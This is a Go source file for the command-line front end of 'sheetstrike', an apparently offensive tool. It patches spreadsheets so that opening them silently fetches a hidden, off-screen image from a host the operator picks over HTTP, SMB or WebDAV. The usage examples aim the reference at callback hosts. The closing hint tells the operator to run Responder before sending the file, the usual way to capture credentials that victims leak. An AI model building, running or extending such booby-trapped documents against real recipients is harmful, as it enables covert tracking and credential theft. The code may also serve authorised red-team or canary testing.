// Package cli provides the sheetstrike command-line interface.
package cli

import (
	"context"
	"errors"
	"fmt"

	"github.com/spf13/cobra"

	"github.com/sheetstrike/sheetstrike-cli/internal/core/domain"
	"github.com/sheetstrike/sheetstrike-cli/internal/core/ports/driven"
	"github.com/sheetstrike/sheetstrike-cli/internal/core/ports/driving"
	"github.com/sheetstrike/sheetstrike-cli/internal/logger"
)

// version is set at build time with -ldflags "-X .../cli.version=...".
var version = "dev"

// PatcherFactory builds a patcher that draws decoy names from catalog.
type PatcherFactory func(catalog domain.Catalog) driving.Patcher

// ProfileLoader opens the operator profile at path. An empty path selects
// the default location.
type ProfileLoader func(path string) (driven.ProfileStore, error)

// Profile keys.
const (
	keyMode      = "mode"
	keyHost      = "host"
	keyHTTPS     = "https"
	keyPath      = "path"
	keySheet     = "sheet"
	keyResources = "catalog.resources"
	keyShares    = "catalog.shares"
)

var (
	newPatcher  PatcherFactory
	loadProfile ProfileLoader

	patcher driving.Patcher
	profile driven.ProfileStore
)

var (
	inputPath    string
	outputPath   string
	modeName     string
	hostName     string
	resourcePath string
	sheetName    string
	configPath   string
	useHTTPS     bool
	verbose      bool
)

var rootCmd = &cobra.Command{
	Use:   "sheetstrike",
	Short: "Inject an external image reference into a spreadsheet",
	Long: `Patches an XLSX workbook so that opening it fetches an external image
over HTTP(S), SMB or WebDAV. The picture is anchored far outside the visible
area; cell content, formulas and formatting are left untouched.

The embedded locator is never resolved or fetched by this tool.`,
	Example: `  sheetstrike -i report.xlsx -o out.xlsx -m http -H canary.example.com --https
  sheetstrike -i report.xlsx -o out.xlsx -m smb -H 10.0.0.5
  sheetstrike -i report.xlsx -o out.xlsx -m webdav -H files.example.com -p q3/logo.png
  sheetstrike inspect out.xlsx`,
	Args:          cobra.NoArgs,
	SilenceUsage:  true,
	SilenceErrors: true,
	PersistentPreRunE: func(_ *cobra.Command, _ []string) error {
		logger.SetVerbose(verbose)

		profile = nil
		if loadProfile != nil {
			p, err := loadProfile(configPath)
			if err != nil {
				return fmt.Errorf("loading profile: %w", err)
			}
			profile = p
			logger.Debug("Profile: %s", p.Path())
		}

		if newPatcher != nil {
			patcher = newPatcher(catalogFromProfile())
		}
		return nil
	},
	PersistentPostRun: func(_ *cobra.Command, _ []string) {
		_ = logger.Sync()
	},
	RunE: runInject,
}

func init() {
	rootCmd.PersistentFlags().BoolVarP(&verbose, "verbose", "v", false, "show each step")
	rootCmd.PersistentFlags().StringVar(&configPath, "config", "", "profile file (TOML or YAML)")

	rootCmd.Flags().StringVarP(&inputPath, "input", "i", "", "input XLSX file")
	rootCmd.Flags().StringVarP(&outputPath, "output", "o", "", "output XLSX file")
	rootCmd.Flags().StringVarP(&modeName, "mode", "m", "", "transport mode: http, smb or webdav")
	rootCmd.Flags().StringVarP(&hostName, "host", "H", "", "host or IP the reference points to")
	rootCmd.Flags().StringVarP(&resourcePath, "path", "p", "", "resource path (default: random decoy name)")
	rootCmd.Flags().BoolVar(&useHTTPS, "https", false, "use HTTPS for http mode or SSL for webdav")
	rootCmd.Flags().StringVar(&sheetName, "sheet", "", "worksheet name (default: first sheet)")
}

// Configure sets the factories used to build services before each command.
func Configure(factory PatcherFactory, loader ProfileLoader) {
	newPatcher = factory
	loadProfile = loader
}

// Execute runs the root command.
func Execute(ctx context.Context) error {
	return rootCmd.ExecuteContext(ctx)
}

// ErrorStyle renders err the way command output is styled on stderr.
func ErrorStyle(err error) string {
	return stylesFor(rootCmd.ErrOrStderr()).Error.Render("Error: " + err.Error())
}

func runInject(cmd *cobra.Command, _ []string) error {
	if !anyFlagChanged(cmd) {
		return cmd.Help()
	}
	if patcher == nil {
		return errors.New("patch service not configured")
	}

	req, err := buildRequest(cmd)
	if err != nil {
		return err
	}

	res, err := patcher.Patch(cmd.Context(), req)
	if err != nil {
		return fmt.Errorf("injection failed: %w", err)
	}

	printResult(cmd, req, res)
	return nil
}

func anyFlagChanged(cmd *cobra.Command) bool {
	for _, name := range []string{"input", "output", "mode", "host", "path", "https", "sheet", "config", "verbose"} {
		if cmd.Flags().Changed(name) {
			return true
		}
	}
	return false
}

// buildRequest merges flags over profile values. A flag given on the
// command line always wins.
func buildRequest(cmd *cobra.Command) (driving.PatchRequest, error) {
	input := stringOption(cmd, "input", "", inputPath)
	output := stringOption(cmd, "output", "", outputPath)
	host := stringOption(cmd, "host", keyHost, hostName)
	mode := stringOption(cmd, "mode", keyMode, modeName)

	var missing []string
	for _, f := range []struct{ name, value string }{
		{"input", input}, {"output", output}, {"mode", mode}, {"host", host},
	} {
		if f.value == "" {
			missing = append(missing, "--"+f.name)
		}
	}
	if len(missing) > 0 {
		return driving.PatchRequest{}, fmt.Errorf("required flag(s) not set: %v", missing)
	}

	m, err := domain.ParseMode(mode)
	if err != nil {
		return driving.PatchRequest{}, err
	}

	return driving.PatchRequest{
		Input:  input,
		Output: output,
		Target: domain.TargetRequest{
			Mode:     m,
			Host:     host,
			Resource: stringOption(cmd, "path", keyPath, resourcePath),
			Secure:   boolOption(cmd, "https", keyHTTPS, useHTTPS),
		},
		Sheet: stringOption(cmd, "sheet", keySheet, sheetName),
	}, nil
}

func stringOption(cmd *cobra.Command, flag, key, value string) string {
	if cmd.Flags().Changed(flag) || profile == nil || key == "" {
		return value
	}
	if v := profile.GetString(key); v != "" {
		return v
	}
	return value
}

func boolOption(cmd *cobra.Command, flag, key string, value bool) bool {
	if cmd.Flags().Changed(flag) || profile == nil {
		return value
	}
	if _, ok := profile.Get(key); ok {
		return profile.GetBool(key)
	}
	return value
}

func catalogFromProfile() domain.Catalog {
	if profile == nil {
		return domain.Catalog{}
	}
	return domain.Catalog{
		Resources: profile.GetStringSlice(keyResources),
		Shares:    profile.GetStringSlice(keyShares),
	}
}

func printResult(cmd *cobra.Command, req driving.PatchRequest, res *driving.PatchResult) {
	st := stylesFor(cmd.OutOrStdout())

	cmd.Println(st.Success.Render("Reference injected"))
	cmd.Printf("  %s %s\n", st.Label.Render("Mode:   "), req.Target.Mode)
	cmd.Printf("  %s %s\n", st.Label.Render("Target: "), res.Locator)
	cmd.Printf("  %s %s\n", st.Label.Render("Drawing:"), res.DrawingPath)
	switch {
	case res.WorksheetWired:
		cmd.Printf("  %s %s (%s)\n", st.Label.Render("Sheet:  "), res.Worksheet, res.RelationshipID)
	case res.RelationshipID != "":
		cmd.Printf("  %s %s (existing drawing kept, %s added)\n",
			st.Label.Render("Sheet:  "), res.Worksheet, res.RelationshipID)
	default:
		cmd.Println(st.Warning.Render("  Worksheet not found; the drawing is not referenced by any sheet"))
	}
	cmd.Printf("  %s %s\n", st.Label.Render("Output: "), req.Output)
	cmd.Println()
	cmd.Println(st.Muted.Render(operatorHint(req.Target.Mode)))
}

// operatorHint reminds the operator what must be listening for the mode.
func operatorHint(mode domain.TransportMode) string {
	switch mode {
	case domain.ModeSMB:
		return "Start an SMB listener before sending the file, e.g.:\n    sudo responder -I <interface> -v"
	case domain.ModeWebDAV:
		return "Start a WebDAV-capable listener before sending the file, e.g.:\n    sudo responder -I <interface> -wv"
	default:
		return "Ensure your HTTP server is listening for callbacks."
	}
}
